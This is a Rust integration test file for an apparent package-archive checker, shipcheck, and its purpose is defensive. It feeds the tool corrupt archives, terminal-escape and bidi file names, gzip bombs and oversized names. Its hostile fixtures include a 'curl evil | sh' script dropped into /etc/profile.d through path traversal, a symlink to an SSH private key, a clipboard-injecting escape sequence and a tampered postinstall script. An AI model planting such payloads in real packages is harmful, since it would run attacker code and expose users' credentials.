//! Hostile and broken input through the real binary and the library: broken and mangled
//! archives (one-line errors, never a panic), control and bidi characters kept out of every
//! output, `check`'s archive findings, and bombs, lying sizes and long names with bounded
//! memory.

mod common;

use std::process::Output;

use common::fixtures::{self, Tar, Zip, flag, gzip, write};
use common::{
    CLEAN_PKG, Lcg, assert_ok, assert_one_line_error, json_of, mutants, run_measured, run_paths,
    shipcheck, stderr, stdout, unsafe_char,
};
use serde_json::Value;

#[test]
fn broken_archives_exit_2_with_one_line_naming_the_file() {
    let dir = tempfile::tempdir().expect("temp dir");
    let tgz = fixtures::npm_tgz("x", "1.0.0", &[("a.js", &[b'a'; 5000])]);
    let mut corrupt = tgz.clone();
    for b in &mut corrupt[12..40] {
        *b ^= 0x5a;
    }
    let mut lying = Tar::new();
    lying.file("package/package.json", b"{}");
    lying.raw(b"package/big", flag::FILE, 1 << 33, b"tiny", b"");
    let zip = fixtures::wheel("w", "1.0");
    let cd = zip
        .windows(4)
        .position(|w| w == b"PK\x01\x02")
        .expect("a central directory");
    let mut broken_cd = zip.clone();
    broken_cd[cd + 1] = b'?';
    let cases: Vec<(&str, Vec<u8>, &str)> = vec![
        (
            "truncated.tgz",
            tgz[..tgz.len() - 30].to_vec(),
            "corrupt gzip: truncated",
        ),
        ("corrupt.tgz", corrupt, "corrupt gzip"),
        (
            "text.tgz",
            b"not an archive at all\n".to_vec(),
            "not a package archive",
        ),
        ("empty.tgz", Vec::new(), "empty file"),
        (
            "lying.tgz",
            gzip(&lying.bytes),
            "truncated: entry package/big declares 8589934592 bytes",
        ),
        ("broken-cd.whl", broken_cd, "corrupt zip"),
    ];
    for (name, bytes, problem) in cases {
        let path = write(dir.path(), name, &bytes);
        for args in [&["ls"][..], &["ls", "--json"], &["manifest"]] {
            let mut c = shipcheck();
            c.args(args).arg(&path);
            let o = c.output().expect("runs");
            assert_one_line_error(&o, name, problem);
        }
        let ok = write(dir.path(), "ok.tgz", &fixtures::npm_tgz("x", "1.0.0", &[]));
        let o = run_paths("diff", &[&ok, &path], &[]);
        assert_one_line_error(&o, name, problem);
    }
}

#[test]
fn no_raw_control_or_bidi_character_reaches_any_output() {
    let dir = tempfile::tempdir().expect("temp dir");
    let hostile_json = "{\"name\":\"evil\\u001b[2J\",\"version\":\"1.0.0\\u202e\",\
        \"scripts\":{\"postinstall\":\"curl x\\u001b]52;c;ZXZpbA==\\u0007\"},\
        \"dependencies\":{\"dep\\u009b31m\":\"^1\\u2066\"}}";
    let mut t = Tar::new();
    t.file("package/package.json", hostile_json.as_bytes())
        .file("package/\x1b[2J\x1b[Hcls.js", b"1")
        .file("package/\x1b]52;c;Y3VybCBldmlsfHNo\x07osc.js", b"2")
        .file("package/\u{9b}31mc1.js", b"3")
        .file("package/invoice\u{202e}fdp.js", b"4")
        .file("package/iso\u{2067}late.js", b"5")
        .file_bytes(b"package/bad\xff\xc0.js", b"6")
        .file("package/del\x7f.js", b"7")
        .link("package/link", flag::SYMLINK, "\x1b[31mtarget\u{202e}");
    let evil = write(dir.path(), "evil.tgz", &gzip(&t.finish()));
    let clean = write(
        dir.path(),
        "clean.tgz",
        &fixtures::npm_tgz("evil", "0.9.0", &[]),
    );
    let zip = write(
        dir.path(),
        "evil.zip",
        &Zip::new()
            .file("\x1b[2Jz.txt", b"1")
            .file("r\u{202e}txt.exe", b"2")
            .symlink("s", "\x1b]52;c;eA==\x07")
            .finish(),
    );
    let runs: Vec<(String, Output)> = vec![
        ("ls".into(), run_paths("ls", &[&evil], &[])),
        ("ls --json".into(), run_paths("ls", &[&evil], &["--json"])),
        ("ls zip".into(), run_paths("ls", &[&zip], &[])),
        (
            "ls --json zip".into(),
            run_paths("ls", &[&zip], &["--json"]),
        ),
        ("diff".into(), run_paths("diff", &[&clean, &evil], &[])),
        (
            "diff reverse".into(),
            run_paths("diff", &[&evil, &clean], &[]),
        ),
        (
            "diff --json".into(),
            run_paths("diff", &[&clean, &evil], &["--json"]),
        ),
        ("manifest".into(), run_paths("manifest", &[&evil], &[])),
        ("manifest zip".into(), run_paths("manifest", &[&zip], &[])),
    ];
    for (what, o) in &runs {
        assert_ok(o, what);
        assert!(!o.stdout.is_empty(), "{what} printed something");
        if let Some(c) = unsafe_char(&o.stdout) {
            panic!(
                "{what}: raw {c} in stdout:\n{}",
                String::from_utf8_lossy(&o.stdout)
            );
        }
    }
    let ls = stdout(&runs[0].1);
    assert!(ls.contains("^[[2J^[[Hcls.js"), "ESC shown as ^[:\n{ls}");
    assert!(
        ls.contains("invoice\\u{202e}fdp.js"),
        "bidi shown escaped:\n{ls}"
    );
    assert!(
        ls.contains("bad\u{fffd}\u{fffd}.js"),
        "invalid UTF-8 listed as the U+FFFD name node-tar writes:\n{ls}"
    );
    assert!(
        ls.contains("package/bad\\xff\\xc0.js holds characters"),
        "the anomaly shows the stored bytes as \\xNN:\n{ls}"
    );
    assert!(
        ls.contains("-> ^[[31mtarget\\u{202e}"),
        "link target sanitised:\n{ls}"
    );
    let json: serde_json::Value =
        serde_json::from_slice(&runs[1].1.stdout).expect("ls --json is valid JSON");
    assert_eq!(
        json["entries"][1]["path"], "\u{1b}[2J\u{1b}[Hcls.js",
        "JSON escapes decode back to the real name"
    );
    assert_eq!(json["package"]["name"], "evil\u{1b}[2J");
    let diff = stdout(&runs[4].1);
    assert!(
        diff.contains("evil^[[2J") && diff.contains("curl x^[]52;c;ZXZpbA==^G"),
        "metadata values in diff are sanitised:\n{diff}"
    );
}

#[test]
fn mangled_archives_never_panic() {
    let dir = tempfile::tempdir().expect("temp dir");
    let mut tar = Tar::new();
    tar.file("package/package.json", br#"{"name":"x","version":"1.0.0"}"#)
        .file("package/a.js", &[b'a'; 700])
        .link("package/l", flag::SYMLINK, "a.js");
    let inputs = [
        (
            "x.tgz",
            fixtures::npm_tgz("x", "1.0.0", &[("a.js", &[b'q'; 3000]), ("b.js", b"b")]),
        ),
        ("x.tar", tar.finish()),
        ("x.whl", fixtures::wheel("w", "1.0")),
        ("x.zip", fixtures::plain_zip_by_crate()),
    ];
    for (i, (name, valid)) in inputs.iter().enumerate() {
        for (j, (how, bytes)) in mutants(valid, i as u64 + 7).into_iter().enumerate() {
            let path = write(dir.path(), &format!("{j}-{name}"), &bytes);
            let o = run_paths("ls", &[&path], &["--json"]);
            let code = o.status.code();
            assert!(
                matches!(code, Some(0 | 2)),
                "{name} {how}: exit {code:?} (0 or 2 expected, never a panic); stderr: {}",
                stderr(&o)
            );
            let err = stderr(&o);
            assert!(!err.contains("panicked"), "{name} {how}: {err}");
            if code == Some(2) {
                assert!(o.stdout.is_empty(), "{name} {how}: no partial output");
                assert_eq!(err.lines().count(), 1, "{name} {how}: one line: {err}");
            } else {
                let _: serde_json::Value =
                    serde_json::from_slice(&o.stdout).expect("a readable mutant lists as JSON");
            }
        }
    }
}

#[test]
fn many_mangled_archives_through_the_library_never_panic() {
    use shipcheck::artifact::{Options, read_bytes};
    let inputs = [
        fixtures::npm_tgz("x", "1.0.0", &[("a.js", &[b'q'; 3000])]),
        fixtures::crate_file("c", "0.1.0"),
        fixtures::wheel("w", "1.0"),
        fixtures::vsix(),
        {
            let mut t = Tar::new();
            t.file("package/package.json", b"{}")
                .pax(&[("path", b"package/long/name")], "package/x", b"data")
                .gnu_long_name(b"package/another/long", b"zz");
            t.finish()
        },
    ];
    let mut rng = Lcg(42);
    let mut read_ok = 0;
    for valid in &inputs {
        for _ in 0..300 {
            let mut m = valid.clone();
            match rng.next() % 3 {
                0 => m.truncate((rng.next() as usize) % m.len()),
                1 => {
                    for _ in 0..=(rng.next() % 8) {
                        let at = (rng.next() as usize) % m.len();
                        m[at] = rng.next() as u8;
                    }
                }
                _ => {
                    let at = (rng.next() as usize) % m.len();
                    let len = ((rng.next() as usize) % 64).min(m.len() - at);
                    m.drain(at..at + len);
                }
            }
            match read_bytes("mutant", &m, &Options::default(), None) {
                Ok(_) => read_ok += 1,
                Err(e) => {
                    let msg = format!("{e:#}");
                    assert!(!msg.contains("panicked"), "no panic inside a reader: {msg}");
                    assert!(msg.starts_with("mutant: "), "errors name the input: {msg}");
                }
            }
        }
    }
    assert!(read_ok > 0, "some mutants are still readable archives");
}

#[test]
fn a_hostile_tarball_gives_critical_archive_findings_and_exit_1() {
    let dir = tempfile::tempdir().expect("tempdir");
    let mut inner = Tar::new();
    inner
        .file("package/package.json", CLEAN_PKG)
        .file("package/../../../etc/profile.d/x.sh", b"curl evil | sh\n");
    let mut t = Tar::new();
    t.file("package/package.json", CLEAN_PKG)
        .file("package/../../.bashrc", b"evil\n")
        .file("/etc/evil", b"root\n")
        .link("package/key", flag::SYMLINK, "/home/u/.ssh/id_rsa")
        .file("package/index.js", b"module.exports = 1;\n")
        .file("package/index.js", b"module.exports = evil();\n")
        .file("package/gnp\u{202e}sj.js", b"x\n")
        .file("package/vendor/inner.tgz", &gzip(&inner.finish()));
    let f = write(dir.path(), "hostile-1.0.0.tgz", &gzip(&t.finish()));
    let (v, code) = json_of(dir.path(), &[f.to_str().expect("utf-8")]);
    assert_eq!(code, 1, "a hostile archive fails the check: {v}");
    let archive: Vec<&Value> = v["findings"]
        .as_array()
        .expect("findings")
        .iter()
        .filter(|f| {
            f["rule"]
                .as_str()
                .is_some_and(|r| r.starts_with("archive-"))
        })
        .collect();
    for rule in [
        "archive-path-traversal",
        "archive-absolute-path",
        "archive-symlink",
        "archive-duplicate-path",
        "archive-bidi-characters",
    ] {
        assert!(
            archive
                .iter()
                .any(|f| f["rule"] == rule && f["inner"].is_null()),
            "{rule} at the top level: {archive:#?}"
        );
    }
    assert!(
        archive.iter().all(|f| f["severity"] == "critical"),
        "every archive-* finding is critical: {archive:#?}"
    );
    let nested = archive
        .iter()
        .find(|f| f["path"] == "vendor/inner.tgz" && f["rule"] == "archive-path-traversal")
        .unwrap_or_else(|| panic!("the nested archive's traversal: {archive:#?}"));
    assert!(
        nested["inner"]
            .as_str()
            .is_some_and(|i| i.contains("profile.d")),
        "located inside the nested archive: {nested}"
    );
    assert!(
        archive
            .iter()
            .filter_map(|f| f["message"].as_str())
            .all(|m| !m.contains('\u{202e}')),
        "the bidi character is escaped in messages"
    );
}

#[test]
fn gzip_bomb_is_refused_with_a_clear_error_and_flat_memory() {
    let dir = tempfile::tempdir().expect("temp dir");
    let bomb = fixtures::zero_bomb(dir.path(), "bomb.tgz", 256 << 20);
    let o = shipcheck()
        .args(["ls", "--max-unpacked-size", "32M"])
        .arg(&bomb)
        .output()
        .expect("runs");
    assert_one_line_error(
        &o,
        "bomb.tgz",
        "unpacks to more than 32000000 bytes (--max-unpacked-size); refusing to read further",
    );
    // Under the cap it is read in full, streaming: memory stays far below the unpacked size.
    if let Some((o, rss_kib)) = run_measured(&["ls".as_ref(), "--json".as_ref(), bomb.as_os_str()])
    {
        assert_eq!(
            o.status.code(),
            Some(0),
            "256 MiB is under the 1 GiB default"
        );
        let listing: serde_json::Value = serde_json::from_slice(&o.stdout).expect("json");
        assert_eq!(listing["artifact"]["unpacked_size"], 256u64 << 20);
        assert!(
            listing["anomalies"]
                .as_array()
                .expect("anomalies")
                .iter()
                .any(|a| a["kind"] == "compression-ratio"),
            "the ratio is recorded"
        );
        assert!(
            rss_kib < 96 * 1024,
            "peak RSS {rss_kib} KiB stays under 96 MiB while streaming 256 MiB"
        );
    }
}

#[test]
fn gzip_bomb_of_2_5_gib_is_refused_under_the_default_cap() {
    let dir = tempfile::tempdir().expect("temp dir");
    let bomb = fixtures::zero_bomb(dir.path(), "big-bomb.tgz", 5 << 29);
    let Some((o, rss_kib)) = run_measured(&["ls".as_ref(), bomb.as_os_str()]) else {
        return;
    };
    assert_eq!(o.status.code(), Some(2), "past the 1 GB default cap");
    assert!(
        stderr(&o).contains("unpacks to more than 1000000000 bytes"),
        "{}",
        stderr(&o)
    );
    assert!(
        rss_kib < 128 * 1024,
        "peak RSS {rss_kib} KiB stays bounded while refusing a 2.5 GiB bomb"
    );
    // `check` holds a file's content for the rules only up to the 256 MiB scan limit.
    let Some((o, rss_kib)) = run_measured(&["check".as_ref(), bomb.as_os_str()]) else {
        return;
    };
    assert_eq!(o.status.code(), Some(2), "check refuses it too");
    assert!(
        rss_kib < 384 * 1024,
        "check's peak RSS {rss_kib} KiB stays under the scan limit plus the reader"
    );
}

#[test]
fn check_does_not_hold_a_file_past_the_scan_limit_and_says_it_was_not_scanned() {
    // 600 MiB of zeros in one entry: under the 1 GiB cap, past the 256 MiB scan limit.
    let dir = tempfile::tempdir().expect("temp dir");
    let bomb = fixtures::zero_bomb(dir.path(), "wide.tgz", 600 << 20);
    let Some((o, rss_kib)) = run_measured(&[
        "check".as_ref(),
        "--format".as_ref(),
        "json".as_ref(),
        bomb.as_os_str(),
    ]) else {
        return;
    };
    assert_eq!(o.status.code(), Some(1), "{}", stderr(&o));
    let v: serde_json::Value = serde_json::from_slice(&o.stdout).expect("json");
    let unscanned: Vec<&serde_json::Value> = v["findings"]
        .as_array()
        .expect("findings")
        .iter()
        .filter(|f| f["rule"] == "large-file" && f["evidence"]["not_scanned"] == true)
        .collect();
    assert_eq!(unscanned.len(), 1, "one not-scanned finding: {v:#}");
    assert_eq!(unscanned[0]["severity"], "high");
    assert_eq!(unscanned[0]["path"], "zeros.bin");
    assert!(
        rss_kib < 384 * 1024,
        "peak RSS {rss_kib} KiB: the 600 MiB file was hashed, not held"
    );
}

#[test]
fn a_10_gib_declared_size_does_not_allocate() {
    // The header declares 10 GiB; 40 MiB of zeros follow, gzip'd, and then the stream ends.
    let dir = tempfile::tempdir().expect("temp dir");
    let mut t = Tar::new();
    t.file("package/package.json", br#"{"name":"x","version":"1.0.0"}"#);
    t.raw(
        b"package/big.bin",
        flag::FILE,
        10 << 30,
        &vec![0u8; 40 << 20],
        b"",
    );
    let path = write(dir.path(), "declared.tgz", &gzip(&t.bytes));
    // Under the default cap it is read to its end and refused as truncated; under a 32 MiB
    // cap it is refused at the cap, before the data runs out.
    let expected = [
        (
            None,
            "declares 10737418240 bytes but the archive ends after 41943040",
        ),
        (Some("32M"), "unpacks to more than 32000000 bytes"),
    ];
    for (cap, problem) in expected {
        let mut args: Vec<&std::ffi::OsStr> = vec!["ls".as_ref()];
        if let Some(cap) = cap {
            args.push(std::ffi::OsStr::new("--max-unpacked-size"));
            args.push(std::ffi::OsStr::new(cap));
        }
        args.push(path.as_os_str());
        let o = match run_measured(&args) {
            Some((o, rss_kib)) => {
                assert!(
                    rss_kib < 64 * 1024,
                    "cap {cap:?}: peak RSS {rss_kib} KiB: a declared size is never trusted for an allocation"
                );
                o
            }
            None => shipcheck().args(&args).output().expect("runs"),
        };
        let err = stderr(&o);
        assert_eq!(o.status.code(), Some(2), "cap {cap:?}: refused: {err}");
        assert!(o.stdout.is_empty(), "cap {cap:?}: no partial listing");
        assert_eq!(err.lines().count(), 1, "cap {cap:?}: one line: {err}");
        assert!(err.contains("declared.tgz"), "names the file: {err}");
        assert!(err.contains(problem), "cap {cap:?}: {problem:?}: {err}");
    }
}

#[test]
fn long_names_cannot_balloon_memory() {
    // 40 entries whose pax paths are just under the 1 MiB record cap: 40 MB of names that
    // compress to almost nothing. Every name is kept (path, raw path, duplicate index), so
    // without a budget on name bytes memory grows to several times that.
    let dir = tempfile::tempdir().expect("temp dir");
    let mut t = Tar::new();
    t.file("package/package.json", b"{}");
    for i in 0..40u32 {
        let name = format!("package/{i}/{}", "n".repeat(1_000_000 - 16));
        t.pax(&[("path", name.as_bytes())], "package/x", b"");
    }
    let path = write(dir.path(), "names.tgz", &gzip(&t.finish()));
    let Some((o, rss_kib)) = run_measured(&["ls".as_ref(), "--json".as_ref(), path.as_os_str()])
    else {
        return;
    };
    assert!(
        rss_kib < 160 * 1024,
        "peak RSS {rss_kib} KiB stays bounded whatever the names hold (exit {:?})",
        o.status.code()
    );
    if o.status.code() == Some(2) {
        assert_one_line_error(
            &o,
            "names.tgz",
            "entry names and link targets add up to more than 32000000 bytes (--max-names-size)",
        );
    }
}
